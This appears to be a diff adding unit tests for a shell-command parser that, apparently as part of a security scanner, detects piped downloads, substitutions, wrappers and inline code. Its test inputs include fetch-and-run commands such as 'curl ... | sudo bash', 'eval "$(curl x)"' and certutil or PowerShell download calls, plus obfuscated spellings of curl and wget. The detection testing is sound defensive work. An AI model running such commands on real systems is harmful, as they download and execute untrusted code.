@@ -1,0 +1,73 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+
+import { inlineCode, readCommands, runsFiles } from './shell.ts';
+
+const programs = (line: string): string[] => readCommands(line).map(command => command.program);
+const files = (line: string): string[] => runsFiles(readCommands(line));
+
+describe('readCommands', () => {
+  it('splits at every operator of both shells', () => {
+    assert.deepEqual(programs('a && b || c; d & e | f\ng'), ['a', 'b', 'c', 'd', 'e', 'f', 'g']);
+    assert.deepEqual(programs('(a; b) | c'), ['a', 'b', 'c']);
+  });
+
+  it('connects pipes, also out of a subshell and through wrappers', () => {
+    const [first, second] = readCommands('curl -s https://x.invalid/a | sudo bash -s');
+    assert.equal(first?.pipedFrom, undefined);
+    assert.equal(second?.program, 'bash');
+    assert.deepEqual(second?.via, ['sudo']);
+    assert.equal(second?.pipedFrom, 0);
+    assert.equal(readCommands('(cd x; curl y) | sh').at(-1)?.pipedFrom, 1);
+    assert.equal(readCommands('a | b && c').at(-1)?.pipedFrom, undefined);
+  });
+
+  it('connects substitutions', () => {
+    for (const line of ['sh -c "$(curl -s https://x.invalid)"', 'eval "$(curl x)"', 'bash <(curl x)', 'sh `curl x`']) {
+      const commands = readCommands(line);
+      const fed = commands.find(command => command.pipedFrom !== undefined);
+      assert.equal(commands[fed?.pipedFrom ?? -1]?.program, 'curl', line);
+    }
+  });
+
+  it('reads quotes, escapes, assignments, redirections and split words as a shell does', () => {
+    const [command] = readCommands(`A=1 B='x y' node "a b.js" --c='d' 2>/dev/null > out.txt`);
+    assert.equal(command?.program, 'node');
+    assert.deepEqual([...(command?.env ?? [])], [['A', '1'], ['B', 'x y']]);
+    assert.deepEqual(command?.args, ['a b.js', '--c=d']);
+    assert.equal(command?.redirectsTo, 'out.txt');
+    assert.deepEqual(programs(String.raw`c\u"r"'l' x; cu^rl y; wget\${IFS}z`.replace('\\$', '$')), ['curl', 'curl', 'wget']);
+  });
+
+  it('takes wrappers off', () => {
+    assert.deepEqual(programs('cross-env CI=1 sh -c "node a.js && node b.js"'), ['node', 'node']);
+    assert.deepEqual(programs('cmd.exe /d /s /c "curl x & start /b y.exe"'), ['curl', 'y']);
+    assert.deepEqual(programs('npx --yes node-pre-gyp install'), ['node-pre-gyp']);
+    assert.deepEqual(programs(String.raw`C:\Windows\System32\CERTUTIL.EXE -urlcache`.replaceAll('\\', '/')), ['certutil']);
+    assert.equal(readCommands('npm run build')[0]?.script, 'build');
+  });
+
+  it('finds code in the command', () => {
+    assert.deepEqual(inlineCode(readCommands(`node -e "require('./x')" && node --eval='1' || python -c 'import os'`)), [`require('./x')`, '1']);
+    assert.deepEqual(readCommands('powershell -NoP -c iwr x')[0]?.code, { language: 'powershell', text: 'iwr x' });
+    assert.deepEqual(readCommands('python3 -c "print(1)"')[0]?.code, { language: 'python', text: 'print(1)' });
+  });
+
+  it('finds the files it runs', () => {
+    assert.deepEqual(files('node ./lib/install.js && node install'), ['lib/install.js', 'install']);
+    assert.deepEqual(files('node -r ./hook.js --import=./b.mjs main'), ['hook.js', 'b.mjs', 'main']);
+    assert.deepEqual(files(String.raw`node scripts\build.js & scripts\x.bat`), ['scripts/build.js', 'scripts/x.bat']);
+    assert.deepEqual(files('sh ./a.sh; . ./b.sh; ./c; python d.py; powershell -File e.ps1; bun run f.ts'), ['a.sh', 'b.sh', 'c', 'd.py', 'e.ps1', 'f.ts']);
+    assert.deepEqual(files('node /tmp/x.js; node ~/y.js; node $HOME/z.js; node ../out.js; deno run https://x.invalid/a.ts; curl x'), []);
+  });
+
+  it('survives what no shell would take', () => {
+    for (const line of ['', ';;;', '"', "'", '$(', '`', '((((', '|', '> ', 'sh -c', 'env', 'sudo', '\\', 'cmd /c', 'X=1', '\0'.repeat(9)]) readCommands(line);
+  });
+
+  it('is bounded', () => {
+    const started = performance.now();
+    for (const piece of ['$(', '`', 'sh -c "', '(', 'a|', '\\', '"$(', '$(a ']) assert.ok(readCommands(piece.repeat(100_000)).length <= 300);
+    assert.ok(performance.now() - started < 5000);
+  });
+});
